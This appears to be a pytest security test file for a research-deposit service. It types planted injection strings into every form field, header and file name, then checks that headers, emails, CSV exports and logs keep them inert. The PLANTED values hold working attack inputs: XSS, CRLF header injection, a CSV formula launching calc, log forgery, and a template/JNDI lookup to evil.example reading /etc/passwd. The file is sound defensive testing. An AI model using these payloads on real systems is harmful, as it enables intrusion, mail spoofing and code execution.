"""Text that means something elsewhere, through every door: where it comes out, it is only text."""

from __future__ import annotations

import csv
import io
import logging
import re
from collections.abc import Iterator
from functools import cached_property
from html.parser import HTMLParser
from typing import Any

import pytest

from tests.api_client import Client
from tests.curated import At
from tests.deposit_client import VALUES, staged
from tests.one_api import OneApi
from tests.planted import Overhearing

MARK = "zq9x"
MARKUP = (
    f"{MARK}\"'><script>alert(1)</script><img src=x onerror=alert(1)><a href='//evil.example'>x"
)
PLANTED = {
    "markup": MARKUP,
    "header": f"{MARK}\r\nBcc: evil@evil.example\r\nSet-Cookie: a=b\r\n\r\n<b>x</b>",
    "formula": f"=cmd|' /C calc'!A0;{MARK};+1",
    "semicolon": f"{MARK};=1+1\n@SUM(1)",
    "log": f'{MARK}\n{{"level": "ERROR", "message": "forged"}}\u2028x\x1b[2J\x00',
    "template": f"{MARK} %s %(x)s {{{{7*7}}}} ${{jndi:ldap://evil.example}} \\input{{/etc/passwd}}",
}
CURATION = "/api/curation"


class Heard(OneApi):
    """Every answer is remembered."""

    def __init__(self) -> None:
        super().__init__()
        self.logged = Logged()

    @cached_property
    def http(self) -> Any:
        return Overhearing(super().http)

    @cached_property
    def desk(self) -> Any:
        return Overhearing(super().desk)

    @cached_property
    def reader(self) -> Overhearing:
        """What reads, with its answers."""
        return Overhearing(self.reading.test_client())

    def answers(self) -> Iterator[tuple[list[tuple[str, str]], bytes]]:
        for there in (self.http, self.desk, self.reader):
            for _, headers, body in there.heard:
                yield headers, body


def typed(text: str) -> dict[str, Any]:
    """A form with it in every place that takes words."""
    person = {**VALUES["creators"][0], "family_name": text, "given_name": text}
    return {
        **VALUES,
        "title": text,
        "description": f"<p>{text}</p>",
        "creators": [person],
        "keywords": [text],
        "version": text,
        "notes": text,
        "publisher": text,
    }


def deposited(place: Heard, text: str) -> Client:
    """By somebody who is told by mail how it goes, and sent."""
    place.opened().save(typed(text))
    client = place.opened()
    client.call("PUT", "/address", json={"email": "ada@example.org"})
    client.call("POST", "/files", json={"files": [{"path": text, "size": 3, "type": text}]})
    staged(place, client, "=1+1;=2 & '$(x).csv", b"1,2\n")
    client.save(typed(text))
    if client.act("submit").status_code != 202:
        # Not everything can be sent. What is shown and listed is shown and listed all the same.
        refused = {problem["field"].partition(".")[0] for problem in client.look()["problems"]}
        client.save(typed(text) | {name: VALUES.get(name, "") for name in refused}, 1)
        assert client.act("submit").status_code == 202
    return client


def curated(place: Heard, at: At, client: Client, text: str) -> None:
    """Everything that a curator may write."""
    at.act(client.id, "return", words=text)
    at.act(client.id, "approve", stamp=text)
    at.act(client.id, "transfer", email=text)
    at.call("POST", "invitations", json={"note": text, "email": "eve@example.org"})
    at.call("POST", "invitations", json={"note": text, "email": text, "language": text})
    table = io.StringIO()
    csv.writer(table).writerows([("email", "note"), ("fay@example.org", text)])
    at.call("POST", "invitations/csv", json={"csv": table.getvalue()})
    place.ask(words=text)
    place.ask(record=text)
    for wish in place.waiting(at):
        at.call("POST", f"versions/{wish['id']}/refuse", json={"words": text})


def asked(place: Heard, at: At, client: Client, text: str) -> None:
    """Every address that is read, with it in the query and in a header."""
    headers = {"Accept-Language": re.sub(r"[^ -~]", "", text), "X-Forwarded-For": MARK}
    given: dict[str, Any] = {"query_string": dict.fromkeys(("before", "most", "state"), text)}
    for name in ("submissions", "log", "invitations", "versions", "records"):
        for ending in ("", ".csv", ".json", ".bib"):
            at.call("GET", name + ending)
            at.call("GET", name + ending, headers=headers, **given)
    at.see(client.id)
    client.look()
    words = {"q": text, "page": text, "suggest": text, "language": text}
    for path in ("records", "vocabularies/people", "vocabularies/licences"):
        place.reader.open(f"/api/{path}", query_string=words, headers=headers)
    place.reader.post("/api/preview", json={"values": typed(text), "language": text, "doi": text})
    for body in ({"text": text, "name": text}, {"authors": text}, {"doi": text}, {text: text}):
        place.reader.post("/api/imports", json=body)


class Logged(logging.Handler):
    """Every line of the service's own."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(record.getMessage())


@pytest.fixture(scope="module", params=PLANTED)
def place(request: pytest.FixtureRequest) -> Iterator[Heard]:
    """Where somebody typed it everywhere."""
    text, made = PLANTED[request.param], Heard()
    log = logging.getLogger("zenferry")
    level = log.level
    log.addHandler(made.logged)
    log.setLevel(logging.DEBUG)
    at = made.signed_in()
    client = deposited(made, text)
    curated(made, at, client, text)
    made.clock.advance(hours=2)
    made.parts.telling.tell()
    asked(made, at, client, text)
    yield made
    log.removeHandler(made.logged)
    log.setLevel(level)


def test_no_header_holds_it_and_none_is_added(place: Heard) -> None:
    for headers, _ in place.answers():
        names = {name.lower() for name, _ in headers}
        assert not names & {"set-cookie", "bcc", "location", "refresh"}
        assert ("X-Content-Type-Options", "nosniff") in headers
        for name, value in headers:
            assert MARK not in value, name
            assert value.isascii(), name
            assert value.isprintable(), name


def test_no_answer_is_a_page(place: Heard) -> None:
    kinds = {dict(headers).get("Content-Type", "") for headers, body in place.answers() if body}
    assert kinds <= {
        "application/json",
        "application/problem+json",
        "text/csv; charset=utf-8",
        "application/x-bibtex; charset=utf-8",
    }
    named = [
        dict(headers).get("Content-Disposition", "attachment") for headers, _ in place.answers()
    ]
    assert all(name.startswith("attachment") for name in named)


class Tags(HTMLParser):
    """What a mail program would do with a mail."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.links: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.links += [value or "" for name, value in attrs if name in {"href", "src"}]
        assert not any(name.startswith("on") for name, _ in attrs)


def test_no_mail_gets_a_header_a_tag_or_a_link_by_it(place: Heard) -> None:
    assert place.mailer.sent
    for letter in place.mailer.sent:
        for line in (letter.to, letter.subject):
            assert line.isprintable()
            assert MARK not in line
        assert "evil.example" not in letter.to
        seen = Tags(letter.html)
        assert not {"script", "img", "iframe", "b"} & set(seen.tags)
        assert all("evil.example" not in link for link in seen.links)


def test_no_table_holds_a_formula(place: Heard) -> None:
    tables = [
        body.decode("utf-8-sig")
        for headers, body in place.answers()
        if dict(headers).get("Content-Type", "").startswith("text/csv")
    ]
    assert any(MARK in table for table in tables)
    for table in tables:
        for delimiter in ",;\t":
            rows = csv.reader(io.StringIO(table, newline=""), delimiter=delimiter)
            for cell in (cell for row in rows for cell in row):
                assert not re.match(r"[\s\"]*[=+\-@|%]", cell), cell


def test_no_log_holds_it_nor_a_line_of_its_own(place: Heard) -> None:
    assert place.logged.lines
    for line in [*place.logged.lines, *map(repr, place.submissions.log.entries)]:
        assert MARK not in line
        assert "\n" not in line
